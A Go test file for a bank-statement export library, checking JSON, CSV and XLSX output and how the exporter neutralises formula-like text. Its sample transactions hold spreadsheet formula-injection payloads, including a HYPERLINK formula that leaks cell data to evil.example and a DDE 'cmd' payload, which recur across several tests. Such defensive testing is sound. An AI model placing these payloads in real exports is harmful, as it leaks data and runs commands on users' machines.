package export

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"strings"
	"testing"
	"time"

	"passbook/extract/ledger"

	"github.com/shopspring/decimal"
	"github.com/xuri/excelize/v2"
)

var update = flag.Bool("update", false, "rewrite the golden files under testdata/")

func dec(s string) *decimal.Decimal {
	d := decimal.RequireFromString(s)
	return &d
}

func day(s string) time.Time {
	t, err := time.Parse(dateLayout, s)
	if err != nil {
		panic(err)
	}
	return t
}

func dayPtr(s string) *time.Time {
	t := day(s)
	return &t
}

// sample is a statement exercising every cell kind: credits and debits,
// an overdrawn (negative) balance, descriptions a spreadsheet would run as
// formulas, text with commas, quotes and non-ASCII letters, warnings, and
// a reconciliation that breaks.
func sample() *ledger.Result {
	return &ledger.Result{
		PageCount: 2,
		Transactions: []ledger.Transaction{
			{Date: day("2024-01-02"), Description: "SALARY ACME CORP LTD", AmountIn: dec("3773.29"), Balance: *dec("3873.29")},
			{Date: day("2024-01-03"), Description: `=HYPERLINK("http://evil.example/?x="&A1,"click")`, AmountOut: dec("50.5"), Balance: *dec("3822.79")},
			{Date: day("2024-01-03"), Description: "-cmd|' /C calc'!A0", AmountOut: dec("4000"), Balance: *dec("-177.21")},
			{Date: day("2024-01-05"), Description: "+SUM(1,2)", AmountIn: dec("10.00"), Balance: *dec("-167.21"),
				Warnings:   []ledger.Warning{{Kind: ledger.WarnBalanceComputed, Message: "balance computed from the opening balance"}},
				Provenance: ledger.Provenance{BalanceComputed: true}},
			{Date: day("2024-01-08"), Description: "@SUM(A1:A2)", AmountOut: dec("0.01"), Balance: *dec("-167.22")},
			{Date: day("2024-01-09"), Description: "\tTAB LEADING", AmountOut: dec("1.10"), Balance: *dec("-168.32")},
			{Date: day("2024-01-10"), Description: "\rCR LEADING", AmountOut: dec("2.20"), Balance: *dec("-170.52")},
			{Date: day("2024-01-11"), Description: `Café "Le Petit", Müller & Söhne <GmbH>`, AmountOut: dec("1234567.891"), Balance: *dec("-1234738.40")},
			{Date: day("2024-01-31"), Description: "'quoted already", AmountIn: dec("1234738.40"), Balance: *dec("0")},
		},
		Statement: ledger.Statement{
			AccountNumber:  "****1234",
			PeriodStart:    dayPtr("2024-01-01"),
			PeriodEnd:      dayPtr("2024-01-31"),
			Currency:       "EUR",
			OpeningBalance: dec("100"),
			ClosingBalance: dec("0.01"),
			Reconciliation: ledger.Reconciliation{
				Status:     ledger.ReconcileMismatch,
				Difference: dec("0.01"),
				Rows:       []int{8},
				Message:    "the closing balance differs from the last row by 0.01",
			},
		},
	}
}

// empty is a document that converted but holds no transactions.
func empty() *ledger.Result {
	return &ledger.Result{
		PageCount: 1,
		Statement: ledger.Statement{Reconciliation: ledger.Reconciliation{
			Status:  ledger.ReconcileNoTransactions,
			Message: "the document holds no transactions",
		}},
	}
}

// testOptions are the options of the golden files: a fixed creation time,
// so that OFX and CAMT.053 headers do not change from run to run.
func testOptions() Options {
	return Options{FileID: "doc_test", OriginalName: "January statement.pdf", Created: time.Date(2024, 2, 1, 9, 30, 0, 0, time.UTC)}
}

func write(t *testing.T, f Format, res *ledger.Result) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := Write(&buf, f, testOptions(), res); err != nil {
		t.Fatalf("Write(%s): %v", f, err)
	}
	return buf.Bytes()
}

// golden compares got with testdata/name, or rewrites it under -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the golden file:\ngot:\n%s\nwant:\n%s", name, got, want)
	}
}

func TestParseFormat(t *testing.T) {
	tests := []struct {
		in   string
		want Format
		err  error
	}{
		{"", CSV, nil},
		{"json", JSON, nil},
		{"csv", CSV, nil},
		{"xlsx", XLSX, nil},
		{"XLSX", XLSX, nil},
		{"ofx", OFX, nil},
		{"QFX", QFX, nil},
		{"qbo", QBO, nil},
		{"qif", QIF, nil},
		{"camt053", CAMT053, nil},
		{"mt940", MT940, nil},
		{"camt", "", ErrFormat},
		{"pdf", "", ErrFormat},
		{"xls", "", ErrFormat},
		{" json", "", ErrFormat},
	}
	for _, tt := range tests {
		got, err := ParseFormat(tt.in)
		if got != tt.want || !errors.Is(err, tt.err) {
			t.Errorf("ParseFormat(%q) = %q, %v; want %q, %v", tt.in, got, err, tt.want, tt.err)
		}
	}
}

func TestFormatContentTypeExt(t *testing.T) {
	tests := []struct {
		f        Format
		ct, ext  string
		wantsErr bool
	}{
		{JSON, "application/json", ".json", false},
		{CSV, "text/csv; charset=utf-8", ".csv", false},
		{XLSX, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", ".xlsx", false},
		{OFX, "application/x-ofx", ".ofx", false},
		{QFX, "application/vnd.intu.qfx", ".qfx", false},
		{QBO, "application/vnd.intu.qbo", ".qbo", false},
		{QIF, "application/qif", ".qif", false},
		{CAMT053, "application/xml", ".xml", false},
		{MT940, "text/plain; charset=us-ascii", ".sta", false},
		{"pdf", "application/octet-stream", "", true},
	}
	for _, tt := range tests {
		if got := tt.f.ContentType(); got != tt.ct {
			t.Errorf("%q.ContentType() = %q, want %q", tt.f, got, tt.ct)
		}
		if got := tt.f.Ext(); got != tt.ext {
			t.Errorf("%q.Ext() = %q, want %q", tt.f, got, tt.ext)
		}
		err := Write(io.Discard, tt.f, Options{FileID: "doc_x"}, sample())
		if gotErr := errors.Is(err, ErrFormat); gotErr != tt.wantsErr {
			t.Errorf("Write(%q) error = %v, want ErrFormat: %v", tt.f, err, tt.wantsErr)
		}
	}
}

func TestJSONGolden(t *testing.T) {
	golden(t, "sample.json", write(t, JSON, sample()))
	golden(t, "empty.json", write(t, JSON, empty()))
}

// TestJSONShape checks the parts of the JSON body that clients rely on,
// independently of the golden file's bytes.
func TestJSONShape(t *testing.T) {
	body := write(t, JSON, sample())

	// Field order of a transaction is the spec's; Passbook's additions
	// follow.
	order := regexp.MustCompile(`^\{"date":.*,"type":.*,"description":.*,"amountIn":.*,"amountOut":.*,"balance":"[^"]*"(,"warnings":\[.*\],"warning_details":\[.*\])?(,"provenance":\{.*\})?\}$`)
	var raw struct {
		Transactions []json.RawMessage `json:"transactions"`
	}
	if err := json.Unmarshal(body, &raw); err != nil {
		t.Fatal(err)
	}
	for i, tx := range raw.Transactions {
		if !order.Match(tx) {
			t.Errorf("transaction %d fields out of order: %s", i, tx)
		}
	}

	var doc map[string]any
	if err := json.Unmarshal(body, &doc); err != nil {
		t.Fatal(err)
	}
	if doc["success"] != true || doc["file_id"] != "doc_test" || doc["transaction_count"] != float64(9) {
		t.Errorf("header fields = %v, %v, %v", doc["success"], doc["file_id"], doc["transaction_count"])
	}
	txs := doc["transactions"].([]any)
	tests := []struct {
		i                     int
		typ, in, out, balance any
		hasWarnings           bool
		description           string
	}{
		{0, "CREDIT", "3773.29", nil, "3873.29", false, "SALARY ACME CORP LTD"},
		{1, "DEBIT", nil, "50.50", "3822.79", false, `=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{2, "DEBIT", nil, "4000.00", "-177.21", false, "-cmd|' /C calc'!A0"},
		{3, "CREDIT", "10.00", nil, "-167.21", true, "+SUM(1,2)"},
		{7, "DEBIT", nil, "1234567.89", "-1234738.40", false, `Café "Le Petit", Müller & Söhne <GmbH>`},
		{8, "CREDIT", "1234738.40", nil, "0.00", false, "'quoted already"},
	}
	for _, tt := range tests {
		tx := txs[tt.i].(map[string]any)
		got := []any{tx["type"], tx["amountIn"], tx["amountOut"], tx["balance"], tx["description"]}
		want := []any{tt.typ, tt.in, tt.out, tt.balance, tt.description}
		if !reflect.DeepEqual(got, want) {
			t.Errorf("transaction %d = %v, want %v (JSON is data: never neutralised)", tt.i, got, want)
		}
		if _, ok := tx["warnings"]; ok != tt.hasWarnings {
			t.Errorf("transaction %d has warnings: %v, want %v", tt.i, ok, tt.hasWarnings)
		}
		// Each warning's kind beside its message, and the row's
		// provenance, as fields: a program never reads the messages.
		details, _ := tx["warning_details"].([]any)
		prov, _ := tx["provenance"].(map[string]any)
		if tt.hasWarnings && (len(details) != 1 || details[0].(map[string]any)["kind"] != "balance_computed" || prov["balance_computed"] != true) ||
			!tt.hasWarnings && (details != nil || prov != nil) {
			t.Errorf("transaction %d: warning_details %v, provenance %v", tt.i, details, prov)
		}
		for _, k := range []string{"amountIn", "amountOut"} {
			if _, ok := tx[k]; !ok {
				t.Errorf("transaction %d: %s missing, want null", tt.i, k)
			}
		}
	}
	if !bytes.Contains(body, []byte(`Müller & Söhne <GmbH>`)) {
		t.Errorf("JSON escapes HTML characters: %s", body)
	}
	st := doc["statement"].(map[string]any)
	wantSt := map[string]any{
		"account_number": "****1234", "period_start": "2024-01-01", "period_end": "2024-01-31",
		"currency": "EUR", "opening_balance": "100.00", "closing_balance": "0.01",
		"reconciliation": map[string]any{
			"status": "mismatch", "difference": "0.01", "rows": []any{float64(8)},
			"message": "the closing balance differs from the last row by 0.01",
		},
	}
	if !reflect.DeepEqual(st, wantSt) {
		t.Errorf("statement = %v\nwant %v", st, wantSt)
	}
}

func TestJSONEmpty(t *testing.T) {
	for _, res := range []*ledger.Result{empty(), nil} {
		body := write(t, JSON, res)
		var doc map[string]any
		if err := json.Unmarshal(body, &doc); err != nil {
			t.Fatal(err)
		}
		if txs, ok := doc["transactions"].([]any); !ok || len(txs) != 0 {
			t.Errorf("transactions = %#v, want []", doc["transactions"])
		}
		if doc["transaction_count"] != float64(0) {
			t.Errorf("transaction_count = %v, want 0", doc["transaction_count"])
		}
		st := doc["statement"].(map[string]any)
		for _, k := range []string{"account_number", "period_start", "period_end", "currency", "opening_balance", "closing_balance"} {
			if v, ok := st[k]; !ok || v != nil {
				t.Errorf("statement.%s = %v (present %v), want null", k, v, ok)
			}
		}
		rec := st["reconciliation"].(map[string]any)
		if _, ok := rec["difference"]; ok {
			t.Errorf("reconciliation.difference present without a difference: %v", rec)
		}
		if _, ok := rec["rows"]; ok {
			t.Errorf("reconciliation.rows present without rows: %v", rec)
		}
	}
}

func TestCSVGolden(t *testing.T) {
	golden(t, "sample.csv", write(t, CSV, sample()))
	golden(t, "empty.csv", write(t, CSV, empty()))
}

func readCSV(t *testing.T, body []byte) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(body))
	records, err := r.ReadAll()
	if err != nil {
		t.Fatalf("read back CSV: %v\n%s", err, body)
	}
	return records
}

func TestCSVCells(t *testing.T) {
	body := write(t, CSV, sample())
	if !bytes.HasSuffix(body, []byte("\r\n")) || bytes.Count(body, []byte("\r\n")) != 11 {
		// 10 records, one of them with a line break inside its quotes.
		t.Errorf("want 10 CRLF-terminated records:\n%q", body)
	}
	records := readCSV(t, body)
	if got := strings.Join(records[0], ","); got != "date,type,description,amountIn,amountOut,balance" {
		t.Errorf("header = %q", got)
	}
	want := [][]string{
		{"2024-01-02", "CREDIT", "SALARY ACME CORP LTD", "3773.29", "", "3873.29"},
		{"2024-01-03", "DEBIT", `'=HYPERLINK("http://evil.example/?x="&A1,"click")`, "", "50.50", "3822.79"},
		{"2024-01-03", "DEBIT", "'-cmd|' /C calc'!A0", "", "4000.00", "-177.21"},
		{"2024-01-05", "CREDIT", "'+SUM(1,2)", "10.00", "", "-167.21"},
		{"2024-01-08", "DEBIT", "'@SUM(A1:A2)", "", "0.01", "-167.22"},
		{"2024-01-09", "DEBIT", "'\tTAB LEADING", "", "1.10", "-168.32"},
		{"2024-01-10", "DEBIT", "'\nCR LEADING", "", "2.20", "-170.52"},
		{"2024-01-11", "DEBIT", `Café "Le Petit", Müller & Söhne <GmbH>`, "", "1234567.89", "-1234738.40"},
		{"2024-01-31", "CREDIT", "''quoted already", "1234738.40", "", "0.00"},
	}
	if !reflect.DeepEqual(records[1:], want) {
		t.Errorf("records:\n got %q\nwant %q", records[1:], want)
	}
}

func TestCSVEmpty(t *testing.T) {
	for _, res := range []*ledger.Result{empty(), nil} {
		body := write(t, CSV, res)
		if string(body) != "date,type,description,amountIn,amountOut,balance\r\n" {
			t.Errorf("empty CSV = %q, want the header row alone", body)
		}
	}
}

func TestNeutralise(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"PLAIN TEXT", "PLAIN TEXT"},
		{"=1+1", "'=1+1"},
		{"+1", "'+1"},
		{"-cmd", "'-cmd"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"\nx", "'\nx"},
		{"'x", "''x"},
		{"a=1", "a=1"},
		{" =1", " =1"},
		{"12.30", "12.30"},
	}
	for _, tt := range tests {
		if got := neutralise(tt.in); got != tt.want {
			t.Errorf("neutralise(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// unneutralise undoes neutralise: it drops the one leading quote that
// neutralise adds (or doubles).
func unneutralise(s string) string {
	return strings.TrimPrefix(s, "'")
}

// expectCleanText is what cleanText promises, written out independently:
// valid UTF-8 and "\n" for every line break.
func expectCleanText(s string) string {
	s = strings.ToValidUTF8(s, "\uFFFD")
	s = strings.ReplaceAll(s, "\r\n", "\n")
	return strings.ReplaceAll(s, "\r", "\n")
}

// FuzzCSV writes random descriptions and reads them back with
// encoding/csv: every record must parse, keep its six columns and give back
// the description once the neutralising quote is removed.
func FuzzCSV(f *testing.F) {
	for _, tx := range sample().Transactions {
		f.Add(tx.Description)
	}
	// The golden CSV's cells, neutralised ones included, are inputs too.
	golden, err := os.ReadFile(filepath.Join("testdata", "sample.csv"))
	if err != nil {
		f.Fatal(err)
	}
	records, err := csv.NewReader(bytes.NewReader(golden)).ReadAll()
	if err != nil {
		f.Fatal(err)
	}
	for _, rec := range records {
		f.Add(rec[2])
	}
	for _, s := range []string{"", `"`, `""`, ",", "a\nb", "a\r\nb", "\r", "\n", "'", "''=", "\xff\xfe", " lead", "trail ", `\.`, "\x00"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, desc string) {
		res := &ledger.Result{Transactions: []ledger.Transaction{
			{Date: day("2024-02-29"), Description: desc, AmountOut: dec("5"), Balance: *dec("-5")},
			{Date: day("2024-03-01"), Description: desc, AmountIn: dec("5"), Balance: *dec("0")},
		}}
		var buf bytes.Buffer
		if err := Write(&buf, CSV, Options{FileID: "doc_fuzz"}, res); err != nil {
			t.Fatal(err)
		}
		records := readCSV(t, buf.Bytes())
		if len(records) != 3 {
			t.Fatalf("%d records, want 3:\n%q", len(records), buf.Bytes())
		}
		want := expectCleanText(desc)
		for _, rec := range records[1:] {
			if len(rec) != 6 {
				t.Fatalf("record has %d fields, want 6: %q", len(rec), rec)
			}
			cell := rec[2]
			if cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
				t.Errorf("description cell %q starts with a formula character", cell)
			}
			if got := unneutralise(cell); got != want {
				t.Errorf("description round trip: wrote %q, read %q (cell %q), want %q", desc, got, cell, want)
			}
		}
		if got := records[1][4] + "|" + records[1][5] + "|" + records[2][3]; got != "5.00|-5.00|5.00" {
			t.Errorf("amount cells = %q, want unprefixed 5.00|-5.00|5.00", got)
		}
	})
}

func openXLSX(t testing.TB, body []byte) *excelize.File {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(body))
	if err != nil {
		t.Fatalf("open xlsx: %v", err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

// cellInfo describes one cell as a reader sees it.
type cellInfo struct {
	kind   string // number, text or formula
	raw    string // the stored value
	shown  string // the value with its number format applied
	numFmt string // the number format: a built-in id or a custom code
}

func describeCell(t *testing.T, f *excelize.File, sheet, ref string) cellInfo {
	t.Helper()
	var c cellInfo
	typ, err := f.GetCellType(sheet, ref)
	if err != nil {
		t.Fatal(err)
	}
	switch typ {
	case excelize.CellTypeUnset, excelize.CellTypeNumber:
		c.kind = "number"
	case excelize.CellTypeInlineString, excelize.CellTypeSharedString:
		c.kind = "text"
	default:
		c.kind = fmt.Sprintf("type%d", typ)
	}
	if formula, _ := f.GetCellFormula(sheet, ref); formula != "" {
		c.kind = "formula"
	}
	if c.raw, err = f.GetCellValue(sheet, ref, excelize.Options{RawCellValue: true}); err != nil {
		t.Fatal(err)
	}
	if c.shown, err = f.GetCellValue(sheet, ref); err != nil {
		t.Fatal(err)
	}
	styleID, err := f.GetCellStyle(sheet, ref)
	if err != nil {
		t.Fatal(err)
	}
	style, err := f.GetStyle(styleID)
	if err != nil {
		t.Fatal(err)
	}
	switch {
	case style.CustomNumFmt != nil:
		c.numFmt = *style.CustomNumFmt
	case style.NumFmt != 0:
		c.numFmt = fmt.Sprint(style.NumFmt)
	}
	return c
}

// cellFlags reports a cell's quote-prefix flag and its fill colour.
func cellFlags(t *testing.T, f *excelize.File, sheet, ref string) (quote bool, fill string) {
	t.Helper()
	id, err := f.GetCellStyle(sheet, ref)
	if err != nil {
		t.Fatal(err)
	}
	// The fill is read from the styles part itself: excelize's GetStyle
	// reports colours only for a workbook that carries a theme part, which
	// ours, like many writers', does not need.
	xf := f.Styles.CellXfs.Xf[id]
	if xf.FillID != nil && *xf.FillID < len(f.Styles.Fills.Fill) {
		if pf := f.Styles.Fills.Fill[*xf.FillID].PatternFill; pf != nil && pf.PatternType == "solid" && pf.FgColor != nil {
			fill = strings.TrimPrefix(pf.FgColor.RGB, "FF")
		}
	}
	return xf.QuotePrefix != nil && *xf.QuotePrefix, fill
}

// dumpXLSX lists every non-empty cell of every sheet, one per line.
func dumpXLSX(t *testing.T, f *excelize.File) []byte {
	t.Helper()
	var b bytes.Buffer
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, v := range row {
				if v == "" {
					continue
				}
				ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
				ci := describeCell(t, f, sheet, ref)
				fmt.Fprintf(&b, "%s!%s %s %q shown=%q fmt=%q", sheet, ref, ci.kind, ci.raw, ci.shown, ci.numFmt)
				quote, fill := cellFlags(t, f, sheet, ref)
				if quote {
					b.WriteString(" quote-prefix")
				}
				if fill != "" {
					b.WriteString(" fill=" + fill)
				}
				b.WriteByte('\n')
			}
		}
	}
	return b.Bytes()
}

func TestXLSXGolden(t *testing.T) {
	golden(t, "sample.xlsx.txt", dumpXLSX(t, openXLSX(t, write(t, XLSX, sample()))))
	golden(t, "empty.xlsx.txt", dumpXLSX(t, openXLSX(t, write(t, XLSX, empty()))))
}

func TestXLSXCells(t *testing.T) {
	f := openXLSX(t, write(t, XLSX, sample()))
	if got := f.GetSheetList(); !reflect.DeepEqual(got, []string{"Transactions", "Statement"}) {
		t.Fatalf("sheets = %q", got)
	}
	if got := f.GetActiveSheetIndex(); got != 0 {
		t.Errorf("active sheet = %d, want 0 (Transactions)", got)
	}
	const s = "Transactions"
	tests := []struct {
		ref  string
		want cellInfo
	}{
		{"A1", cellInfo{"text", "Date", "Date", ""}},
		{"F1", cellInfo{"text", "Balance", "Balance", ""}},
		{"G1", cellInfo{"text", "Notes", "Notes", ""}},
		// 2024-01-02 is day 45293 of Excel's 1900 date system.
		{"A2", cellInfo{"number", "45293", "2024-01-02", "yyyy-mm-dd"}},
		{"A10", cellInfo{"number", "45322", "2024-01-31", "yyyy-mm-dd"}},
		{"B2", cellInfo{"text", "CREDIT", "CREDIT", ""}},
		{"C2", cellInfo{"text", "SALARY ACME CORP LTD", "SALARY ACME CORP LTD", ""}},
		{"D2", cellInfo{"number", "3773.29", "3,773.29", "4"}},
		{"F2", cellInfo{"number", "3873.29", "3,873.29", "4"}},
		// Formula-like text keeps its text; the quote-prefix style (checked
		// below) is what keeps it from running.
		{"C3", cellInfo{"text", `=HYPERLINK("http://evil.example/?x="&A1,"click")`, `=HYPERLINK("http://evil.example/?x="&A1,"click")`, ""}},
		{"E3", cellInfo{"number", "50.5", "50.50", "4"}},
		{"C4", cellInfo{"text", "-cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", ""}},
		{"E4", cellInfo{"number", "4000", "4,000.00", "4"}},
		{"F4", cellInfo{"number", "-177.21", "-177.21", "4"}},
		{"C5", cellInfo{"text", "+SUM(1,2)", "+SUM(1,2)", ""}},
		{"G5", cellInfo{"text", "balance computed from the opening balance", "balance computed from the opening balance", ""}},
		{"C6", cellInfo{"text", "@SUM(A1:A2)", "@SUM(A1:A2)", ""}},
		{"E6", cellInfo{"number", "0.01", "0.01", "4"}},
		{"C9", cellInfo{"text", `Café "Le Petit", Müller & Söhne <GmbH>`, `Café "Le Petit", Müller & Söhne <GmbH>`, ""}},
		// 1234567.891 is rounded to cents, like the JSON's "1234567.89".
		{"E9", cellInfo{"number", "1234567.89", "1,234,567.89", "4"}},
		{"F9", cellInfo{"number", "-1234738.4", "-1,234,738.40", "4"}},
		{"C10", cellInfo{"text", "'quoted already", "'quoted already", ""}},
		{"F10", cellInfo{"number", "0", "0.00", "4"}},
	}
	for _, tt := range tests {
		if got := describeCell(t, f, s, tt.ref); got != tt.want {
			t.Errorf("%s = %+v, want %+v", tt.ref, got, tt.want)
		}
	}
	for _, ref := range []string{"E2", "D3", "G2", "H2", "A11"} {
		if v, _ := f.GetCellValue(s, ref); v != "" {
			t.Errorf("%s = %q, want empty", ref, v)
		}
	}
	// Quote prefix on formula-like text only; the warned row 5 tinted
	// across, empty cells included, and no other row.
	for ref, want := range map[string]bool{"C3": true, "C4": true, "C5": true, "C6": true, "C7": true, "C8": true, "C10": true, "C2": false, "C9": false, "B3": false} {
		if got, _ := cellFlags(t, f, s, ref); got != want {
			t.Errorf("%s quote prefix = %v, want %v", ref, got, want)
		}
	}
	for _, col := range "ABCDEFG" {
		for row, want := range map[int]string{4: "", 5: warnedFill, 6: ""} {
			ref := fmt.Sprintf("%c%d", col, row)
			if _, got := cellFlags(t, f, s, ref); got != want {
				t.Errorf("%s fill = %q, want %q", ref, got, want)
			}
		}
	}
	if got, _ := cellFlags(t, f, s, "C5"); !got {
		t.Errorf("C5 lost its quote prefix when tinted")
	}

	// Print set-up: landscape, one page wide, header row on every page.
	layout, err := f.GetPageLayout(s)
	if err != nil {
		t.Fatal(err)
	}
	if layout.Orientation == nil || *layout.Orientation != "landscape" || layout.FitToWidth == nil || *layout.FitToWidth != 1 || layout.FitToHeight == nil || *layout.FitToHeight != 0 {
		t.Errorf("page layout = %+v, want landscape, fit 1 wide by any tall", layout)
	}
	props, err := f.GetSheetProps(s)
	if err != nil {
		t.Fatal(err)
	}
	if props.FitToPage == nil || !*props.FitToPage {
		t.Errorf("sheet props = %+v, want fitToPage", props)
	}

	panes, err := f.GetPanes(s)
	if err != nil {
		t.Fatal(err)
	}
	if !panes.Freeze || panes.YSplit != 1 || panes.XSplit != 0 || panes.TopLeftCell != "A2" {
		t.Errorf("panes = %+v, want the header row frozen", panes)
	}

	var filter, titles bool
	for _, dn := range f.GetDefinedName() {
		if dn.Name == "_xlnm._FilterDatabase" && dn.RefersTo == "'Transactions'!$A$1:$G$10" {
			filter = true
		}
		if dn.Name == "_xlnm.Print_Titles" && dn.RefersTo == "'Transactions'!$1:$1" && dn.Scope == "Transactions" {
			titles = true
		}
	}
	if !filter || !titles {
		t.Errorf("no _FilterDatabase name for A1:G10 (%v) or no Print_Titles for row 1 (%v) in %+v", filter, titles, f.GetDefinedName())
	}

	for col, want := range map[string]float64{"A": 12, "C": 50, "D": 15, "F": 16} {
		if got, _ := f.GetColWidth(s, col); got != want {
			t.Errorf("width of %s = %v, want %v", col, got, want)
		}
	}

	const st = "Statement"
	stTests := []struct {
		ref  string
		want cellInfo
	}{
		{"A1", cellInfo{"text", "File", "File", ""}},
		{"B1", cellInfo{"text", "January statement.pdf", "January statement.pdf", ""}},
		{"B2", cellInfo{"text", "doc_test", "doc_test", ""}},
		{"B5", cellInfo{"number", "45292", "2024-01-01", "yyyy-mm-dd"}},
		{"B7", cellInfo{"number", "100", "100.00", "4"}},
		{"B9", cellInfo{"number", "2", "2", ""}},
		{"B13", cellInfo{"text", "10", "10", ""}},
	}
	for _, tt := range stTests {
		if got := describeCell(t, f, st, tt.ref); got != tt.want {
			t.Errorf("%s!%s = %+v, want %+v", st, tt.ref, got, tt.want)
		}
	}
}

// TestXLSXAutoFilterXML checks the sheet XML itself: the filter must sit on
// the Transactions sheet, which excelize's defined name alone does not prove.
func TestXLSXAutoFilterXML(t *testing.T) {
	body := write(t, XLSX, sample())
	zr, err := zip.NewReader(bytes.NewReader(body), int64(len(body)))
	if err != nil {
		t.Fatal(err)
	}
	rc, err := zr.Open("xl/worksheets/sheet1.xml")
	if err != nil {
		t.Fatal(err)
	}
	defer rc.Close()
	xml, err := io.ReadAll(rc)
	if err != nil {
		t.Fatal(err)
	}
	// excelize writes the filter's range with absolute references.
	for _, want := range []string{`<autoFilter ref="(\$?A\$?1:\$?G\$?10)"`, `<pane [^>]*state="frozen"`, `<cols><col min="1" max="1" [^>]*/><col min="2"`, `<dimension ref="A1:G10"`, `<pageSetup [^>]*orientation="landscape"`, `<pageSetUpPr fitToPage="(1|true)"`} {
		if !regexp.MustCompile(want).Match(xml) {
			t.Errorf("sheet1.xml does not match %s", want)
		}
	}
	if bytes.Contains(xml, []byte("<f>")) {
		t.Errorf("sheet1.xml holds a formula")
	}
}

func TestXLSXEmpty(t *testing.T) {
	for _, res := range []*ledger.Result{empty(), nil} {
		f := openXLSX(t, write(t, XLSX, res))
		rows, err := f.GetRows("Transactions")
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) != 1 || strings.Join(rows[0], ",") != "Date,Type,Description,Money in,Money out,Balance,Notes" {
			t.Errorf("rows = %q, want the header alone", rows)
		}
		if panes, _ := f.GetPanes("Transactions"); !panes.Freeze {
			t.Errorf("header not frozen on an empty sheet")
		}
	}
}

func TestMoneyCellBounds(t *testing.T) {
	const st = 7
	tests := []struct {
		in   string
		want any
	}{
		{"0.1", xlsxCell{style: 7, value: 0.1}},
		{"-5", xlsxCell{style: 7, value: -5.0}},
		{"9999999999999.99", xlsxCell{style: 7, value: 9999999999999.99}},
		// Past 15 significant digits a float could not say it: exact text.
		{"10000000000000.00", "10000000000000.00"},
		{"-70368744177664.01", "-70368744177664.01"},
	}
	for _, tt := range tests {
		if got := moneyCell(st, dec(tt.in)); !reflect.DeepEqual(got, tt.want) {
			t.Errorf("moneyCell(%s) = %#v, want %#v", tt.in, got, tt.want)
		}
	}
	if got := moneyCell(st, nil); got != nil {
		t.Errorf("moneyCell(nil) = %#v, want nil", got)
	}
}

func TestDateCell(t *testing.T) {
	const st = 3
	loc := time.FixedZone("UTC+14", 14*3600)
	tests := []struct {
		in   time.Time
		want any
	}{
		{day("1900-03-01"), xlsxCell{style: 3, value: int64(61)}},
		{day("2024-02-29"), xlsxCell{style: 3, value: int64(45351)}},
		// The printed calendar date counts, not the instant.
		{time.Date(2024, 2, 29, 23, 0, 0, 0, loc), xlsxCell{style: 3, value: int64(45351)}},
		{day("9999-12-31"), xlsxCell{style: 3, value: int64(2958465)}},
		{day("1900-02-28"), "1900-02-28"},
		{time.Time{}, "0001-01-01"},
	}
	for _, tt := range tests {
		if got := dateCell(st, tt.in); !reflect.DeepEqual(got, tt.want) {
			t.Errorf("dateCell(%v) = %#v, want %#v", tt.in, got, tt.want)
		}
	}
}

// BenchmarkXLSX10000 writes a 10,000-row statement as XLSX.
func BenchmarkXLSX10000(b *testing.B) {
	res := &ledger.Result{Transactions: make([]ledger.Transaction, 10000)}
	bal := decimal.Zero
	for i := range res.Transactions {
		amt := decimal.New(int64(i%5000+1), -2)
		tx := ledger.Transaction{
			Date:        day("2024-01-01").AddDate(0, 0, i/50),
			Description: fmt.Sprintf("CARD PAYMENT TO MERCHANT NUMBER %d LONDON GB", i),
		}
		if i%3 == 0 {
			tx.AmountIn, bal = &amt, bal.Add(amt)
		} else {
			tx.AmountOut, bal = &amt, bal.Sub(amt)
		}
		tx.Balance = bal
		res.Transactions[i] = tx
	}
	var buf bytes.Buffer
	b.ReportAllocs()
	for b.Loop() {
		buf.Reset()
		if err := Write(&buf, XLSX, Options{FileID: "doc_bench"}, res); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(buf.Len()), "bytes/file")
}

func TestJSONStatementWarnings(t *testing.T) {
	res := &ledger.Result{Statement: ledger.Statement{Warnings: []string{"page 2 could not be read"}}}
	var buf bytes.Buffer
	if err := Write(&buf, JSON, Options{FileID: "f"}, res); err != nil {
		t.Fatal(err)
	}
	var got struct {
		Statement struct {
			Warnings []string `json:"warnings"`
		} `json:"statement"`
	}
	if err := json.Unmarshal(buf.Bytes(), &got); err != nil {
		t.Fatal(err)
	}
	if len(got.Statement.Warnings) != 1 || got.Statement.Warnings[0] != "page 2 could not be read" {
		t.Errorf("statement warnings = %v", got.Statement.Warnings)
	}
}
